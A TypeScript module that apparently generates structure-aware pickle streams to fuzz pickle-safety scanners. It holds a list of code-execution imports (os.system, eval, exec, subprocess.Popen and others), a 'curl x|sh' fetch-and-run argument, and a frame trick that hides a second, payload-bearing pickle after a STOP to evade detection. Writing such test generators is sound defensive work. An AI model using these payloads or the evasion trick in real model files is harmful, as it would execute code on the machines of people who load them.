import { ascii, concat, le } from "../bytes.js";
import type { Rng } from "../rng.js";

/**
 * Structure-aware pickle streams: well-formed opcode sequences for values, containers, memo use,
 * imports and calls of every kind, with payload calls, frames, several streams back to back and,
 * now and then, opcodes out of place. Byte-level mutation of these finds what random bytes cannot.
 */

/** Imports real checkpoints make. */
const BENIGN_GLOBALS: readonly [string, string][] = [
  ["collections", "OrderedDict"],
  ["torch._utils", "_rebuild_tensor_v2"],
  ["torch", "FloatStorage"],
  ["numpy.core.multiarray", "_reconstruct"],
  ["numpy", "dtype"],
  ["numpy", "ndarray"],
  ["_codecs", "encode"],
  ["builtins", "set"],
  ["__builtin__", "set"],
  ["sklearn.linear_model._logistic", "LogisticRegression"],
  ["mymodule", "Thing"],
];

/** Imports that run something when called, in the spellings attackers use. */
const PAYLOAD_GLOBALS: readonly [string, string][] = [
  ["os", "system"],
  ["posix", "system"],
  ["nt", "system"],
  ["builtins", "eval"],
  ["builtins", "exec"],
  ["__builtin__", "eval"],
  ["subprocess", "Popen"],
  ["subprocess", "check_output"],
  ["runpy", "_run_code"],
  ["socket", "create_connection"],
  ["builtins", "getattr"],
  ["importlib", "import_module"],
  ["torch", "os.system"],
  ["pydoc", "locate"],
];

const PAYLOAD_ARGS = ["true", "id", "1+1", "import os", "curl x|sh"];

export interface PickleOptions {
  /** Put a payload call somewhere in the value tree (default: random). */
  payload?: boolean;
}

/** Builds opcodes into one byte array. */
class Emitter {
  readonly parts: Uint8Array[] = [];
  memoNext = 0;
  readonly memoized: number[] = [];

  op(...codes: number[]): void {
    this.parts.push(new Uint8Array(codes));
  }

  raw(bytes: Uint8Array): void {
    this.parts.push(bytes);
  }

  bytes(): Uint8Array {
    return concat(...this.parts);
  }
}

const nl = (text: string) => ascii(`${text}\n`);

function emitString(e: Emitter, rng: Rng, text: string, protocol: number): void {
  const data = ascii(text);
  const choice = protocol >= 4 ? rng.int(4) : protocol >= 1 ? rng.int(3) + 1 : 3;
  if (choice === 0 && data.length < 256) e.raw(concat(new Uint8Array([0x8c, data.length]), data));
  else if (choice === 1) e.raw(concat(ascii("X"), le(4, data.length), data));
  else if (choice === 2 && data.length < 256) e.raw(concat(ascii("U"), new Uint8Array([data.length]), data));
  else if (rng.chance(0.5) && !/[\n\\]/.test(text)) e.raw(concat(ascii("V"), nl(text)));
  else e.raw(concat(ascii("S"), nl(`'${text.replace(/[\\']/g, "")}'`)));
}

function emitInt(e: Emitter, rng: Rng, protocol: number): void {
  const n = rng.pick([0, 1, 255, 256, 65535, 2 ** 31 - 1, rng.int(1000)]);
  if (protocol === 0 || rng.chance(0.2)) e.raw(concat(ascii("I"), nl(String(n))));
  else if (n < 256) e.op(0x4b, n);
  else if (n < 65536) e.raw(concat(ascii("M"), le(2, n)));
  else e.raw(concat(ascii("J"), le(4, n)));
}

function memoize(e: Emitter, rng: Rng, protocol: number): void {
  if (!rng.chance(0.3)) return;
  const index = e.memoNext++;
  e.memoized.push(index);
  if (protocol >= 4 && rng.chance(0.5)) e.op(0x94);
  else if (protocol >= 1 && index < 256) e.op(0x71, index);
  else e.raw(concat(ascii("p"), nl(String(index))));
}

function emitGlobal(e: Emitter, rng: Rng, [module, name]: [string, string], protocol: number): void {
  if (protocol >= 4 && rng.chance(0.6)) {
    emitString(e, rng, module, protocol);
    memoize(e, rng, protocol);
    emitString(e, rng, name, protocol);
    memoize(e, rng, protocol);
    e.op(0x93);
  } else {
    e.raw(concat(ascii("c"), nl(module), nl(name)));
  }
  memoize(e, rng, protocol);
}

/** A call of `callable` with string arguments, by one of REDUCE, INST, OBJ, NEWOBJ, NEWOBJ_EX. */
function emitCall(e: Emitter, rng: Rng, callable: [string, string], args: string[], protocol: number): void {
  const how = rng.int(protocol >= 4 ? 5 : protocol >= 2 ? 4 : 3);
  if (how === 1) {
    e.op(0x28);
    for (const a of args) emitString(e, rng, a, protocol);
    e.raw(concat(ascii("i"), nl(callable[0]), nl(callable[1])));
  } else if (how === 2) {
    e.op(0x28);
    emitGlobal(e, rng, callable, protocol);
    for (const a of args) emitString(e, rng, a, protocol);
    e.op(0x6f);
  } else {
    emitGlobal(e, rng, callable, protocol);
    e.op(0x28);
    for (const a of args) emitString(e, rng, a, protocol);
    e.op(0x74);
    if (how === 3) e.op(0x81);
    else if (how === 4) e.op(0x7d, 0x92);
    else e.op(0x52);
  }
  memoize(e, rng, protocol);
}

function emitValue(e: Emitter, rng: Rng, depth: number, protocol: number, payload: { left: boolean }): void {
  if (payload.left && rng.chance(depth === 0 ? 0.5 : 0.25)) {
    payload.left = false;
    emitCall(e, rng, rng.pick(PAYLOAD_GLOBALS), [rng.pick(PAYLOAD_ARGS)], protocol);
    return;
  }
  const kind = depth > 3 ? rng.int(5) : rng.int(12);
  switch (kind) {
    case 0:
      emitInt(e, rng, protocol);
      break;
    case 1:
      emitString(
        e,
        rng,
        rng.pick(["weight", "bias", "a", "", "layer.0", "x".repeat(rng.int(300))]),
        protocol,
      );
      break;
    case 2:
      e.op(rng.pick([0x4e, protocol >= 2 ? 0x88 : 0x4e, protocol >= 2 ? 0x89 : 0x4e]));
      break;
    case 3:
      if (protocol >= 3) e.raw(concat(ascii("C"), new Uint8Array([4]), rng.bytes(4)));
      else e.raw(concat(ascii("F"), nl("1.5")));
      break;
    case 4:
      if (e.memoized.length > 0) {
        const index = rng.pick(e.memoized);
        if (index < 256) e.op(0x68, index);
        else e.raw(concat(ascii("j"), le(4, index)));
      } else e.op(0x4e);
      break;
    case 5:
    case 6: {
      // list, with APPEND or APPENDS
      e.op(protocol >= 1 ? 0x5d : 0x28);
      if (protocol === 0) e.op(0x6c);
      memoize(e, rng, protocol);
      const n = rng.int(4);
      if (rng.chance(0.5)) {
        e.op(0x28);
        for (let i = 0; i < n; i++) emitValue(e, rng, depth + 1, protocol, payload);
        e.op(0x65);
      } else {
        for (let i = 0; i < n; i++) {
          emitValue(e, rng, depth + 1, protocol, payload);
          e.op(0x61);
        }
      }
      break;
    }
    case 7: {
      e.op(0x7d);
      memoize(e, rng, protocol);
      e.op(0x28);
      for (let i = rng.int(3); i > 0; i--) {
        emitString(e, rng, `k${i}`, protocol);
        emitValue(e, rng, depth + 1, protocol, payload);
      }
      e.op(0x75);
      break;
    }
    case 8: {
      const n = rng.int(4);
      if (protocol >= 2 && n >= 1 && n <= 3) {
        for (let i = 0; i < n; i++) emitValue(e, rng, depth + 1, protocol, payload);
        e.op(0x84 + n);
      } else {
        e.op(0x28);
        for (let i = 0; i < n; i++) emitValue(e, rng, depth + 1, protocol, payload);
        e.op(0x74);
      }
      break;
    }
    case 9:
      emitCall(e, rng, rng.pick(BENIGN_GLOBALS), [], protocol);
      if (rng.chance(0.4)) {
        e.op(0x7d);
        emitString(e, rng, "state", protocol);
        emitValue(e, rng, depth + 1, protocol, payload);
        e.op(0x73, 0x62); // SETITEM, BUILD
      }
      break;
    case 10:
      emitString(e, rng, "storage", protocol);
      if (protocol >= 1) e.op(0x51);
      else {
        e.op(0x30);
        e.raw(concat(ascii("P"), nl("0")));
      }
      break;
    default: {
      e.op(protocol >= 4 ? 0x8f : 0x5d);
      if (protocol >= 4) {
        e.op(0x28);
        emitValue(e, rng, depth + 1, protocol, payload);
        e.op(0x90);
      }
    }
  }
}

/** A single pickle stream ending in STOP, possibly framed. */
export function generatePickleStream(rng: Rng, options: PickleOptions = {}): Uint8Array {
  const protocol = rng.int(6);
  const e = new Emitter();
  const payload = { left: options.payload ?? rng.chance(0.5) };
  emitValue(e, rng, 0, protocol, payload);
  if (payload.left) {
    // Still owed: put it in a tuple beside the value so it is reached.
    emitCall(e, rng, rng.pick(PAYLOAD_GLOBALS), [rng.pick(PAYLOAD_ARGS)], protocol);
    e.op(protocol >= 2 ? 0x86 : 0x30);
  }
  if (rng.chance(0.05)) e.raw(rng.bytes(rng.range(1, 4))); // out of place
  const body = concat(e.bytes(), new Uint8Array([0x2e]));
  const head = protocol >= 2 ? new Uint8Array([0x80, protocol]) : new Uint8Array(0);
  if (protocol >= 4 && rng.chance(0.5)) {
    const declared = rng.chance(0.85) ? body.length : rng.int(body.length + 8);
    return concat(head, new Uint8Array([0x95]), le(8, declared), body);
  }
  return concat(head, body);
}

/**
 * One or more streams back to back, sometimes with a second stream hidden after a STOP inside the
 * first one's frame, or junk between or after them.
 */
export function generatePickle(rng: Rng, options: PickleOptions = {}): Uint8Array {
  const first = generatePickleStream(rng, options);
  const roll = rng.int(10);
  if (roll === 0) {
    // A frame whose bytes continue past the STOP with a second pickle.
    // Read from the next byte, SHORT_BINBYTES swallows all of the second pickle but its STOP; read
    // from the frame's end (CPython's C unpickler on a BytesIO), the second pickle runs.
    const second = generatePickleStream(rng, { payload: true });
    const swallow = Math.min(255, second.length - 1);
    const inner = concat(ascii("]."), new Uint8Array([0x43, swallow]));
    return concat(new Uint8Array([0x80, 0x04, 0x95]), le(8, inner.length), inner, second);
  }
  if (roll === 1) return concat(first, generatePickleStream(rng));
  if (roll === 2) return concat(first, rng.bytes(rng.range(1, 16)));
  return first;
}
